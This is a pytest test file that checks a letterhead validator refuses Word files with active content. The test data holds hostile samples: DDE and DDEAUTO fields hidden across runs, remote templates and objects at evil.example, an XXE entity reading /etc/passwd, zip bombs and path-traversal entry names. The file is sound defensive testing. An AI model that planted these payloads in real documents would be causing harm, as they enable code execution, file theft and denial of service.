"""A letterhead with anything in it that runs, fetches or bursts is refused: what, where, and what to do."""

# ruff: noqa: SIM300 - by house style, what is expected stands first

import io
import os
import stat
import zipfile
from pathlib import Path

import pytest

from builder.letterhead import find, named, opened
from builder.problems import InputError, Problem
from builder.strict import read_yaml

LETTERHEADS = Path(__file__).parent / "data" / "letterheads"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
GOOD = (LETTERHEADS / "hospital.docx").read_bytes()


def parts_of(content=GOOD):
    """The parts of a Word file by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts, change=None):
    """A Word file of parts; `change` may spoil an entry's header."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            if change:
                change(entry)
            package.writestr(entry, content)
    return file.getvalue()


def replaced(name, old, new):
    """The good letterhead with a text in one part replaced."""
    parts = parts_of()
    assert old in parts[name].decode()
    parts[name] = parts[name].decode().replace(old, new, 1).encode()
    return packed(parts)


def threaded(kind, target, *, external=True, part="word/_rels/document.xml.rels", **more):
    """The good letterhead with one relationship more, and perhaps further parts."""
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/>'
    parts = parts_of()
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    text = parts.get(part, empty.encode()).decode()
    parts[part] = text.replace("</Relationships>", f"{one}</Relationships>").encode()
    return packed({**parts, **{name.replace("__", "/"): content for name, content in more.items()}})


def in_footer(xml):
    """The good letterhead with some XML at the end of its footer."""
    return replaced("word/footer1.xml", "</w:ftr>", f"{xml}</w:ftr>")


def by_runs(*words):
    """A field whose instruction is spread over runs."""
    told = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in words)
    return f"<w:p>{MARK('begin')}{told}{MARK('separate')}<w:r><w:t>x</w:t></w:r>{MARK('end')}</w:p>"


def MARK(kind):  # noqa: N802 - reads as a mark in the XML below
    """One mark of a field."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def refusals(content, name="ours.docx"):
    """The problems for which a letterhead is refused."""
    with pytest.raises(InputError) as refused:
        opened(content, name)
    return refused.value.problems


@pytest.mark.parametrize("name", ["hospital", "council", "charity"])
def test_a_letterhead_as_organisations_have_it_is_let_in(name):
    """Logos, fields that count pages, links and styles are no reason to refuse."""
    assert opened((LETTERHEADS / f"{name}.docx").read_bytes(), "x").part("styles") == "word/styles.xml"


def outer(inside, words):
    """A field that is told some words, with another field among them."""
    inner = by_runs(inside).removeprefix("<w:p>").removesuffix("</w:p>")
    before, after = (f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in words)
    return f"<w:p>{MARK('begin')}{before}{inner}{after}{MARK('end')}</w:p>"


NESTED = outer("QUOTE 68 68 69", ("", " c:\\x"))
INSIDE = outer("DDEAUTO c:", ("IF 1 ", ""))


@pytest.mark.parametrize(
    ("field", "said"),
    [
        *((f"{kind} x", kind) for kind in ("DDE", "DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "LINK")),
        *((f"{kind} x", kind) for kind in ("MACROBUTTON", "DATABASE", "RD", "EMBED", "ddeauto", "CONTROL")),
    ],
)
def test_an_active_field_is_refused_by_name(field, said):
    """A field that starts a program, runs a macro or fetches a file is named, with its part."""
    for xml in (by_runs(f" {field} "), f'<w:p><w:fldSimple w:instr="{field}"/></w:p>'):
        found = refusals(in_footer(xml))
        assert [("letterhead-field", True, True)] == [
            (each.code, f"the field {said.upper()}," in each.message, "word/footer1.xml" in each.message)
            for each in found
        ]
        assert "Ctrl+Shift+F9" in found[0].hint


@pytest.mark.parametrize(
    "xml",
    [
        by_runs("D", "DEA", "UTO c:\\\\x"),
        by_runs(" IN", 'CLUDEPICTURE "http://x"'),
        INSIDE,
        NESTED,
        by_runs("D\u200bDE x"),
        "<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>",
        f"<w:p>{MARK('begin')}<w:r><w:instrText>LINK x</w:instrText></w:r></w:p>",
        by_runs('"DDE" x'),
    ],
)
def test_an_active_field_cannot_hide(xml):
    """Split over runs, inside another field, put together by one, without its marks: it is found all the same."""
    assert {"letterhead-field"} == {each.code for each in refusals(in_footer(xml))}


@pytest.mark.parametrize(
    "address",
    ["file:///c:/x", "\\\\host\\x", "//host/x", "javascript:alert(1)", "ms-word:ofe|u|http://x", "http://", "x.doc"],
)
def test_only_whole_web_and_mail_addresses_may_be_linked(address):
    """A link leads to http, https or mailto; by relationship or by field."""
    escaped = address.replace("\\", "\\\\")
    for content in (
        threaded(f"{OFFICE}/hyperlink", address),
        in_footer(by_runs(f'HYPERLINK "{escaped}"')),
        in_footer(by_runs(f"HYPERLINK {escaped}")),
    ):
        assert {"letterhead-link"} == {each.code for each in refusals(content)}


def test_good_links_are_let_in():
    """http, https and mailto, and a mark in the document, are links that people may click."""
    for address in ("https://example.org/a?b=1", "http://example.org", "mailto:a@example.org", "#top"):
        opened(threaded(f"{OFFICE}/hyperlink", address), "x")
    opened(in_footer(by_runs('HYPERLINK "https://example.org"')), "x")
    opened(in_footer(by_runs('HYPERLINK \\l "top"')), "x")


@pytest.mark.parametrize(
    ("kind", "target", "part"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", "word/_rels/settings.xml.rels"),
        ("attachedTemplate", "file:///C:/t.dotx", "word/_rels/settings.xml.rels"),
        ("image", "file:///C:/x.png", "word/_rels/footer1.xml.rels"),
        ("image", "http://evil.example/x.png", "word/_rels/header1.xml.rels"),
        ("image", "\\\\host\\x.png", "word/_rels/document.xml.rels"),
        ("oleObject", "http://evil.example/x", "word/_rels/document.xml.rels"),
        ("customXml", "http://evil.example/x.xml", "word/_rels/document.xml.rels"),
        ("customXmlProps", "http://evil.example/x.xml", "customXml/_rels/item1.xml.rels"),
        ("frame", "http://evil.example/", "word/_rels/webSettings.xml.rels"),
        ("mailMergeSource", "file:///C:/x.mdb", "word/_rels/settings.xml.rels"),
    ],
)
def test_nothing_is_fetched_when_a_paper_is_opened(kind, target, part):
    """A template, picture, object or data that lies elsewhere is refused, with the part that asks for it."""
    found = refusals(threaded(f"{OFFICE}/{kind}", target, part=part))
    assert [True] == [part.replace("_rels/", "").removesuffix(".rels") in each.message for each in found]
    assert all(each.hint for each in found)


@pytest.mark.parametrize(
    ("kind", "part"),
    [
        (f"{OFFICE}/oleObject", "word/embeddings/a.bin"),
        (f"{OFFICE}/package", "word/embeddings/a.xlsx"),
        (f"{OFFICE}/control", "word/activeX/a.xml"),
        (f"{OFFICE}/aFChunk", "word/a.html"),
        (f"{OFFICE}/subDocument", "word/a.docx"),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "word/vbaProject.bin"),
        ("http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations", "word/customizations.xml"),
        ("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/taskpanes.xml"),
    ],
)
def test_nothing_is_embedded_that_runs(kind, part):
    """Macros, objects, controls, add-ins and documents to merge in are refused."""
    content = threaded(kind, f"/{part}", external=False, **{part: b"<x/>"})
    assert {"letterhead-active"} == {each.code for each in refusals(content)}


def test_a_macro_file_with_another_name_is_refused():
    """A .docm that was renamed is known by its content type, and macros by the name of their part."""
    content = replaced("[Content_Types].xml", "wordprocessingml.document.main+xml", "x.macroEnabled.main+xml")
    assert [True] == ["without macros" in each.hint or "no macros" in each.hint for each in refusals(content)]
    assert ["letterhead-active"] == [
        each.code for each in refusals(packed({**parts_of(), "word/vbaProject.bin": b"x"}))
    ]


@pytest.mark.parametrize(
    ("part", "xml"),
    [
        ("word/document.xml", '<w:altChunk xmlns:r="x" r:id="rId1"/>'),
        ("word/footer1.xml", '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o"/></w:object></w:r></w:p>'),
        ("word/footer1.xml", '<w:p><w:r><w:control w:name="x"/></w:r></w:p>'),
        ("word/settings.xml", "<w:mailMerge/>"),
        ("word/settings.xml", '<w:saveThroughXslt w:solutionID="x"/>'),
        (
            "word/footer1.xml",
            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:v" src="file:///c:/x.png"/></w:pict></w:r></w:p>',
        ),
        ("word/footer1.xml", '<w:p><w:r><w:pict><v:rect xmlns:v="urn:v" href="\\\\host\\x"/></w:pict></w:r></w:p>'),
        ("word/footer1.xml", "<w:p><w:r><w:ffData><w:entryMacro w:val='x'/></w:ffData></w:r></w:p>"),
    ],
)
def test_an_element_that_runs_or_fetches_is_refused(part, xml):
    """What is said inside a part counts as well as the threads between parts."""
    end = {"word/document.xml": "</w:body>", "word/settings.xml": "</w:settings>", "word/footer1.xml": "</w:ftr>"}[part]
    found = refusals(replaced(part, end, xml + end))
    assert [True] * len(found) == [part in each.message for each in found]


ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused(encoding):
    """A DTD, which could pull in files, is refused in any part and encoding."""
    parts = parts_of()
    parts["word/footer1.xml"] = f'{ENTITY}<w:ftr xmlns:w="{W}"><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:ftr>'.encode(
        encoding
    )
    found = refusals(packed(parts))
    assert ["letterhead-xml"] == [each.code for each in found]
    assert "DTD" in found[0].message
    parts = {**parts_of(), "_rels/.rels": ENTITY.encode() + parts_of()["_rels/.rels"].partition(b"?>")[2]}
    assert ["letterhead-archive"] == [each.code for each in refusals(packed(parts))]


def test_an_active_field_in_another_encoding_is_found():
    """A part in UTF-16 is read like any other."""
    parts = parts_of()
    parts["word/footer1.xml"] = f'<w:ftr xmlns:w="{W}">{by_runs("DDE x")}</w:ftr>'.encode("utf-16")
    assert ["letterhead-field"] == [each.code for each in refusals(packed(parts))]


def test_a_bomb_is_refused_before_it_is_unpacked():
    """Parts that unpack to far more than they weigh, to too much in all, or are too many, are refused by figures."""
    parts = parts_of()
    assert "times its size" in refusals(packed({**parts, "word/media/a.png": b"\0" * 3_000_000}))[0].message
    assert "MB of text" in refusals(packed({**parts, "word/a.xml": os.urandom(5_500_000).hex().encode()}))[0].message
    many = {f"word/media/{number}.png": b"x" for number in range(1_100)}
    assert "at most 1000" in refusals(packed({**parts, **many}))[0].message
    large = bytes(range(256)) * 40_000
    whole = refusals(packed({**parts, **{f"word/media/{number}.emf": large for number in range(9)}}))
    assert "at most 80" in whole[0].message


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/passwd", "word/../../x", "c:/x", "word\\x.xml", "x" * 300, "word/a\x1b[2J.xml"]
)
def test_a_name_that_leads_out_is_refused(name):
    """No entry leads out of the archive, or is named to deceive; the name is shown without what a terminal obeys."""
    found = refusals(packed({**parts_of(), name: b"x"}))
    assert {"letterhead-archive"} == {each.code for each in found}
    assert all(each.message.isprintable() for each in found)


def test_two_entries_of_one_name_are_refused():
    """Two programs could read two different parts of one name, in capitals or not."""
    for name in ("word/styles.xml", "WORD/Styles.xml"):
        file = io.BytesIO(GOOD)
        with (
            pytest.warns(UserWarning, match="Duplicate name") if name == "word/styles.xml" else _no_warning(),
            zipfile.ZipFile(file, "a") as package,
        ):
            package.writestr(name, b"<x/>")
        assert "twice" in refusals(file.getvalue())[0].message


def _no_warning():
    import contextlib

    return contextlib.nullcontext()


def test_links_and_devices_in_the_archive_are_refused():
    """An entry that says it is a symbolic link, a device or a FIFO is refused."""
    for kind in (stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR):

        def change(entry, kind=kind):
            entry.external_attr = (kind | 0o644) << 16

        assert "link or a device" in refusals(packed(parts_of(), change))[0].message


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "not a Word file"),
        (b"%PDF-1.7", "not a Word file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password"),
        (GOOD[: len(GOOD) // 2], "not a Word file"),
        (GOOD[:2000] + b"\0" * 50 + GOOD[2050:], "not a Word file"),
        (packed({"a.txt": b"x"}), "not a Word document"),
        (packed({**parts_of(), "_rels/.rels": b"<x/>"}), "no document"),
    ],
)
def test_what_is_no_word_file_is_refused(content, said):
    """An empty, cut, damaged or encrypted file, or one of another kind, is refused without a traceback."""
    found = refusals(content)
    assert said in found[0].message
    assert "Word Document (.docx)" in found[0].hint


def test_an_encrypted_entry_is_refused():
    """A part that is encrypted inside the archive is refused."""
    spoiled = bytearray(GOOD)
    at = spoiled.find(b"PK\x01\x02")
    spoiled[at + 8] |= 1
    assert "encrypted" in refusals(bytes(spoiled))[0].message


def test_a_strict_file_is_refused_with_what_to_do():
    """'Strict Open XML' has other names for everything; the message says how to save it."""
    content = replaced(
        "_rels/.rels",
        f"{OFFICE}/officeDocument",
        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
    )
    assert "Strict Open XML" in refusals(content)[0].message


def test_all_reasons_are_told_together():
    """Whoever mends a letterhead need not try again for each fault."""
    content = in_footer(by_runs("DDE x") + by_runs("LINK y"))
    assert ["DDE", "LINK"] == [each.message.split("the field ")[1].split(",")[0] for each in refusals(content)]


# ------------------------------------------------------------ the file on the disk

PLACE = Problem("letterhead", "letterhead: 'x'", "brief.yaml", 7, 13)


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda path: path.with_name("other"), "is not there"),
        (lambda path: path.mkdir(), "is a folder"),
        (os.mkfifo, "is not a file"),
        (lambda path: path.symlink_to(LETTERHEADS / "hospital.docx"), "is a link"),
        (lambda path: path.symlink_to("/dev/zero"), "is a link"),
        (lambda path: path.write_bytes(b"\0" * 21_000_000), "MB, and at most 20"),
    ],
)
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and links")
def test_only_a_regular_file_of_bearable_size_is_read(make, said, tmp_path):
    """A missing file, a folder, a FIFO, a link or a huge file is refused at its place in the brief; nothing hangs."""
    path = tmp_path / "ours.docx"
    make(path)
    with pytest.raises(InputError) as refused:
        find(path, PLACE)
    problem = refused.value.problems[0]
    assert (said in problem.message, "brief.yaml", 7, 13) == (True, problem.path, problem.line, problem.column)
    assert problem.hint


def test_another_ending_is_refused(tmp_path):
    """A .docm or .doc is refused by its name."""
    (tmp_path / "ours.docm").write_bytes(GOOD)
    with pytest.raises(InputError) as refused:
        find(tmp_path / "ours.docm", PLACE)
    assert "without macros" in refused.value.problems[0].hint


def test_the_place_in_the_brief_is_named(tmp_path):
    """The problem of a missing letterhead stands at the brief's own line."""
    marked, _ = read_yaml("title: x\nletterhead: ours.docx\n", "brief.yaml")
    with pytest.raises(InputError) as refused:
        named("ours.docx", tmp_path / "brief.yaml", marked)
    assert str(refused.value).startswith("brief.yaml:2:13: letterhead: 'ours.docx' is not there.")
